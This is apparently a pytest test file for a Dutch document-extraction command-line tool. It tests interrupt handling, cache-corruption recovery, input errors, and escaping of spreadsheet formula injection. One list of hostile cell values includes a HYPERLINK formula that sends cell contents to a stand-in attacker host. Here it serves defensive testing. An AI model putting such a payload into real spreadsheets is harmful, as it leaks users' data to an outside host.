"""Hardening of the command line and its files: interrupts, formula injection, broken caches,
bad paths and inputs. Real processes get real signals; every file written is read back."""

from __future__ import annotations

import csv
import json
import logging
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from fixtures.cli import CLI, start_extract

from banen_qa.models import Figure

ROOT = Path(__file__).resolve().parent.parent
SEED_PDF = ROOT / "corpus" / "voortgang-banenafspraak-overheid-onderwijs-2021.pdf"
SMALL_PDF = ROOT / "tests" / "fixtures" / "llm" / "injection.pdf"  # one page, two figures


def run_cli(*args: str, timeout: float = 300, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=timeout, **kw)


def one_error_line(proc: subprocess.CompletedProcess) -> str:
    """The run failed with exit 2 and exactly one line on stderr, no traceback."""
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert proc.returncode == 2, (proc.returncode, proc.stderr)
    assert "Traceback" not in proc.stderr
    assert len(lines) == 1, proc.stderr
    return lines[0]


# ---------------------------------------------------------------------------
# 2. interrupts


def synth_letter(path: Path, copies: int = 1) -> Path:
    """A generated letter; `copies` > 1 repeats its pages (a long file that takes a while)."""
    sys.path.insert(0, str(ROOT))
    import pypdfium2 as pdfium

    from eval.synth.content import World
    from eval.synth.letters import write_letter
    from eval.synth.render import render

    render(write_letter(World(7), 7, 0), path)
    if copies > 1:
        src = pdfium.PdfDocument(path)
        out = pdfium.PdfDocument.new()
        for _ in range(copies):
            out.import_pages(src)
        out.save(path.with_suffix(".tmp"))
        src.close()
        os.replace(path.with_suffix(".tmp"), path)
    return path


def distinct_copies(src: Path, folder: Path, n: int) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for i in range(n):
        path = folder / f"letter-{i:02d}.pdf"
        path.write_bytes(src.read_bytes() + f"\n% copy {i}\n".encode())
        out.append(path)
    return out


def stored_documents(store: Path) -> set[str]:
    try:
        with sqlite3.connect(store / "extract.sqlite", timeout=5) as db:
            return {r[0] for r in db.execute("SELECT document FROM files")}
    except sqlite3.OperationalError:
        return set()


def session_alive(sid: int) -> list[int]:
    alive = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
                if os.getsid(int(entry.name)) == sid and " Z " not in stat:
                    alive.append(int(entry.name))
            except (ProcessLookupError, PermissionError, FileNotFoundError):
                pass
    return alive


@pytest.mark.parametrize("workers", [1, 2])
def test_one_ctrl_c_writes_the_figures_of_the_files_done(tmp_path: Path, workers: int) -> None:
    letters = distinct_copies(synth_letter(tmp_path / "src.pdf"), tmp_path / "letters", 8)
    store, out = tmp_path / "store", tmp_path / "figures.csv"
    proc = start_extract(tmp_path / "letters", store, out, workers)
    try:
        deadline = time.monotonic() + 120
        while not stored_documents(store):
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.05)
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert proc.returncode == 130, err
    assert "interrupted" in err and "Traceback" not in err
    done = stored_documents(store)
    assert 1 <= len(done) < len(letters), "interrupt came too late to test"
    with out.open(encoding="utf-8", newline="") as fh:
        written = {row["document"] for row in csv.DictReader(fh)}
    assert written == done  # every stored file's figures, and only those


def test_second_ctrl_c_ends_at_once_and_leaves_no_worker(tmp_path: Path) -> None:
    long = synth_letter(tmp_path / "long.pdf", copies=80)  # ~320 pages: half a minute a file
    distinct_copies(long, tmp_path / "letters", 4)
    store, out = tmp_path / "store", tmp_path / "figures.csv"
    proc = start_extract(tmp_path / "letters", store, out, workers=2)
    try:
        time.sleep(4)  # workers started and reading their first long file
        assert proc.poll() is None, proc.communicate()
        proc.send_signal(signal.SIGINT)
        time.sleep(0.5)
        proc.send_signal(signal.SIGINT)
        t0 = time.monotonic()
        _, err = proc.communicate(timeout=60)
        took = time.monotonic() - t0
        deadline = time.monotonic() + 5
        while session_alive(proc.pid) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert session_alive(proc.pid) == [], "worker processes outlived the run"
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        else:
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
    assert proc.returncode == 130, err
    assert took < 10, f"second Ctrl-C took {took:.1f}s to end the run"
    assert stored_documents(store) == set()  # nothing finished: nothing claimed
    assert out.read_text(encoding="utf-8").splitlines()[0].startswith("document,")


# ---------------------------------------------------------------------------
# 3. formula injection


def figure(quote: str, document: str = "letter") -> Figure:
    return Figure(
        document=document,
        sector="defensie",
        year=2020,
        metric="realised_jobs",
        value=556,
        unit="jobs",
        page=3,
        char_start=0,
        char_end=3,
        quote=quote,
    )


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31 70 123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_look_like_formulas_start_with_a_quote(tmp_path: Path) -> None:
    from banen_qa.table_io import write_figures

    rows = [figure(q, document=q) for q in HOSTILE_CELLS] + [figure("Defensie: 556 banen.")]
    path = write_figures(rows, tmp_path / "t.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        back = list(csv.DictReader(fh))
    for row, cell in zip(back, HOSTILE_CELLS, strict=False):
        assert row["quote"] == "'" + cell and row["document"] == "'" + cell
    assert back[-1]["quote"] == "Defensie: 556 banen."  # ordinary text untouched
    assert back[-1]["value"] == "556.0"  # numbers stay numbers


def test_xlsx_cells_that_look_like_formulas_are_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from banen_qa.table_io import COLUMNS, write_figures

    path = write_figures([figure(q) for q in HOSTILE_CELLS], tmp_path / "t.xlsx")
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    ws = load_workbook(path).active
    col = COLUMNS.index("quote") + 1
    for i, cell in enumerate(HOSTILE_CELLS, start=2):
        assert ws.cell(i, col).data_type == "s"
        assert ws.cell(i, col).value.lstrip() == cell.lstrip()  # XML reads \r back as \n
    assert ws.cell(2, COLUMNS.index("value") + 1).data_type == "n"


def test_web_download_uses_the_same_guard(tmp_path: Path) -> None:
    from banen_qa.web.app import figures_file

    body = figures_file([figure(HOSTILE_CELLS[0])], "csv").decode()
    assert "\"'=HYPERLINK(" in body


# ---------------------------------------------------------------------------
# 4. caches


@pytest.fixture()
def small_corpus(tmp_path: Path) -> Path:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(SMALL_PDF, corpus / "waterschappen.pdf")
    return corpus


def corrupt_files(folder: Path, name: str) -> list[Path]:
    return sorted(folder.glob(f"{name}.corrupt-*"))


@pytest.mark.parametrize("damage", ["garbage", "truncated", "folder"])
def test_broken_parse_cache_entry_is_moved_aside_and_rebuilt(
    small_corpus: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture, damage: str
) -> None:
    from banen_qa.corpus import load_corpus

    data = tmp_path / "data"
    first = load_corpus(small_corpus, data, progress=False)
    [entry] = (data / "cache").glob("*.json")
    if damage == "garbage":
        entry.write_bytes(os.urandom(300))
    elif damage == "truncated":
        entry.write_bytes(entry.read_bytes()[:500])
    else:
        entry.unlink()
        entry.mkdir()
    with caplog.at_level(logging.WARNING, logger="banen_qa.cache"):
        again = load_corpus(small_corpus, data, progress=False)
    assert again.figures == first.figures
    assert len(corrupt_files(data / "cache", entry.name)) == 1
    assert [r.getMessage() for r in caplog.records if "moved aside" in r.getMessage()]
    assert entry.is_file() and json.loads(entry.read_text("utf-8"))["doc"]["document"]


def test_a_file_where_the_cache_folder_should_be(small_corpus: Path, tmp_path: Path) -> None:
    from banen_qa.corpus import load_corpus

    data = tmp_path / "data"
    data.mkdir()
    (data / "cache").write_text("not a folder")
    loaded = load_corpus(small_corpus, data, progress=False)
    assert loaded.figures and (data / "cache").is_dir()
    assert len(corrupt_files(data, "cache")) == 1


@pytest.mark.parametrize("target", ["vectors.sqlite", "chroma/chroma.sqlite3", "chroma"])
@pytest.mark.parametrize("damage", ["garbage", "truncated"])
def test_broken_index_caches_are_moved_aside_and_ask_still_answers(
    small_corpus: Path, tmp_path: Path, target: str, damage: str
) -> None:
    data = tmp_path / "data"
    # a passage question: figure questions never open the index, so they could not notice
    question = "Wat doen de waterschappen om mensen met een arbeidsbeperking te begeleiden?"
    args = ["ask", "--json", question, "--corpus", str(small_corpus), "--data-dir", str(data)]
    first = run_cli(*args)
    assert first.returncode == 0, first.stderr
    path = data / target
    if target == "chroma":  # a file where the store's folder should be
        shutil.rmtree(path)
        path.write_bytes(os.urandom(100) if damage == "garbage" else b"")
    elif damage == "garbage":
        path.write_bytes(os.urandom(4096))
    else:
        path.write_bytes(path.read_bytes()[: max(1, path.stat().st_size // 3)])
    again = run_cli(*args)
    assert again.returncode == 0, again.stderr
    assert "Traceback" not in again.stderr
    assert json.loads(again.stdout)["answer"] == json.loads(first.stdout)["answer"]
    warnings = [line for line in again.stderr.splitlines() if "moved aside" in line]
    assert len(warnings) == 1, again.stderr
    aside = data / "chroma" if target.startswith("chroma") else path  # the store as a whole
    assert len(corrupt_files(aside.parent, aside.name)) == 1
    third = run_cli(*args)  # rebuilt for good: no more warnings
    assert third.returncode == 0 and "moved aside" not in third.stderr


# ---------------------------------------------------------------------------
# 5. errors and command-line input


def test_out_that_is_a_folder_fails_before_reading(tmp_path: Path) -> None:
    (tmp_path / "out.csv").mkdir()
    proc = run_cli(
        "extract",
        str(SMALL_PDF),
        "--out",
        str(tmp_path / "out.csv"),
        "--store",
        str(tmp_path / "s"),
    )
    line = one_error_line(proc)
    assert "out.csv" in line and "folder" in line
    assert not (tmp_path / "s").exists()  # no work started


def test_out_under_a_file_and_store_that_is_a_file_fail_before_reading(tmp_path: Path) -> None:
    blocker = tmp_path / "blocker"
    blocker.write_text("x")
    proc = run_cli(
        "extract", str(SMALL_PDF), "--out", str(blocker / "t.csv"), "--store", str(tmp_path / "s")
    )
    assert "blocker" in one_error_line(proc)
    proc = run_cli("extract", str(SMALL_PDF), "--store", str(blocker))
    line = one_error_line(proc)
    assert "blocker" in line and "not a folder" in line


@pytest.mark.parametrize("question", ["", "   ", "\n\t"])
def test_empty_question_is_an_error(tmp_path: Path, question: str) -> None:
    proc = run_cli("ask", question, "--data-dir", str(tmp_path / "d"))
    assert "question is empty" in one_error_line(proc)


def test_missing_corpus_and_unusable_data_dir(tmp_path: Path, small_corpus: Path) -> None:
    proc = run_cli("ask", "Hoeveel?", "--corpus", str(tmp_path / "nope"))
    assert "nope" in one_error_line(proc)
    (tmp_path / "file").write_text("x")
    proc = run_cli(
        "ask", "Hoeveel?", "--corpus", str(small_corpus), "--data-dir", str(tmp_path / "file")
    )
    assert "file" in one_error_line(proc)


@pytest.mark.parametrize(
    ("manifest", "words"),
    [
        ('[{"file": "waterschappen.pdf", ', ["manifest.json", "not valid JSON"]),
        (
            '[{"file": "waterschappen.pdf", "year": "abc"}]',
            ["manifest.json", "entry 1", "waterschappen.pdf", "year", "abc"],
        ),
        ('{"file": "waterschappen.pdf"}', ["manifest.json", "list"]),
        ('[{"title": "no file"}]', ["manifest.json", "entry 1", "file"]),
    ],
)
def test_malformed_manifest_is_one_line(
    small_corpus: Path, tmp_path: Path, manifest: str, words: list[str]
) -> None:
    (small_corpus / "manifest.json").write_text(manifest)
    proc = run_cli(
        "ask", "Hoeveel banen?", "--corpus", str(small_corpus), "--data-dir", str(tmp_path / "d")
    )
    line = one_error_line(proc)
    for word in words:
        assert word in line, line


def test_eval_with_a_missing_gold_folder(tmp_path: Path) -> None:
    proc = run_cli("eval", "--gold", str(tmp_path / "nonexistent"))
    assert "nonexistent" in one_error_line(proc)


@pytest.mark.parametrize("port", ["99999", "0", "-1"])
def test_serve_with_an_impossible_port(port: str) -> None:
    proc = run_cli("serve", "--port", port)
    assert "port" in one_error_line(proc)


def test_two_files_with_one_name_get_two_document_ids(tmp_path: Path) -> None:
    for folder, src in (("a", SMALL_PDF), ("b", SEED_PDF)):
        (tmp_path / "in" / folder).mkdir(parents=True)
        shutil.copy(src, tmp_path / "in" / folder / "letter.pdf")
    proc = run_cli(
        "extract",
        str(tmp_path / "in"),
        "--format",
        "jsonl",
        "--workers",
        "1",
        "--store",
        str(tmp_path / "s"),
    )
    assert proc.returncode == 0, proc.stderr
    docs = {json.loads(line)["document"] for line in proc.stdout.splitlines()}
    assert docs == {"a/letter", "b/letter"}


def test_a_newline_in_a_file_name_stays_on_one_line(tmp_path: Path) -> None:
    bad = tmp_path / "bad\nname.pdf"
    bad.write_text("<html>not a pdf</html>")
    proc = run_cli("extract", str(bad), "--store", str(tmp_path / "s"))
    assert proc.returncode == 3
    problem = [line for line in proc.stderr.splitlines() if "name.pdf" in line]
    assert len(problem) == 1 and "bad\\nname.pdf: not a PDF" in problem[0], proc.stderr


def test_every_project_error_is_a_banen_qa_error() -> None:
    from banen_qa.corpus import ManifestError
    from banen_qa.errors import BanenQAError
    from banen_qa.ingest.parse import PdfError
    from banen_qa.llm import LLMConfigError, LLMUnavailable
    from banen_qa.llm.client import BadOutput
    from banen_qa.search.index import IndexUnavailable
    from banen_qa.table_io import MissingDependency, OutputNotWritable, TableFormatError

    for cls in (
        ManifestError,
        PdfError,
        LLMConfigError,
        LLMUnavailable,
        BadOutput,
        IndexUnavailable,
        MissingDependency,
        OutputNotWritable,
        TableFormatError,
    ):
        assert issubclass(cls, BanenQAError), cls


def test_the_parse_cache_key_covers_every_extract_module() -> None:
    """The cache key hashes the modules the pipeline imports: each module of the extract step
    (figures.py and the modules it is split into) is among them."""
    from banen_qa.corpus import pipeline_modules

    extract = Path(__file__).resolve().parents[1] / "banen_qa" / "extract"
    wanted = {f"banen_qa.extract.{p.stem}" for p in extract.glob("*.py") if p.stem != "__init__"}
    assert wanted <= set(pipeline_modules())
